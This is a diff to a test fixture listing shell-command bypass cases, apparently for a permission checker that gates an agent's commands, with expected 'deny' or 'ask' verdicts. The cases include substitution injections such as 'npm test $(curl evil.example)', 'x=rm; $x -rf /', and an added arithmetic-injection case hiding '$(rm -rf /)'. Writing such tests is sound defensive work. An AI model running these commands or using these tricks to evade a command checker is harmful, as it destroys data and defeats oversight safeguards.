@@ -95,6 +95,7 @@ export const BYPASS: readonly BypassCase[] = [
   ['negated', 'bash', '! rm x', 'deny'],
   ['substitution-in-allowed-args', 'bash', 'npm test $(curl evil.example)', 'deny'],
   ['test-substitution', 'bash', '[[ $(rm x) ]]', 'deny'],
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: shell syntax, not a template
   ['default-expansion', 'bash', 'echo ${X:-$(rm x)}', 'deny'],
   ['arithmetic-substitution', 'bash', 'echo $((1 + $(rm x)))', 'deny'],
   ['assignment-substitution', 'bash', 'x=$(rm x)', 'deny'],
@@ -149,7 +150,12 @@ export const BYPASS: readonly BypassCase[] = [
   ['nbsp-joined', 'bash', 'git\u00a0status', 'ask'],
   // not fully understood: never auto-allowed
   ['variable-command', 'bash', '$CMD x', 'ask'],
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: shell syntax, not a template
   ['braced-variable-command', 'bash', '${CMD} x', 'ask'],
+  ['arithmetic-injection', 'bash', "x='a[$(rm -rf /)]'; (( x ))", 'ask'],
+  ['arithmetic-expansion-variable', 'bash', 'echo $(( x ))', 'ask'],
+  ['let', 'bash', 'let x', 'ask'],
+  ['test-arithmetic', 'bash', '[[ $n -eq 1 ]] && ls', 'ask'],
   ['substituted-command-name', 'bash', '$(echo rm) x', 'ask'],
   ['assigned-then-run', 'bash', 'x=rm; $x -rf /', 'ask'],
   ['heredoc-into-shell', 'bash', 'cat <<EOF | sh\nrm x\nEOF', 'ask'],
